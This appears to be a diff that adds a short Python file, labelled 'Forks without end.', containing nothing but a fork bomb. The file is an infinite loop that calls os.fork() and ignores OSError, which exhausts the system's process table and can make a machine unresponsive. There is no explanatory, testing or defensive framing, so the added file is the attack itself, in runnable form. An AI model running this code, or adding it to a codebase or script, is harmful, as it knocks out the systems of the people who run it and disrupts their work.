@@ -1,0 +1,8 @@
+# Forks without end.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
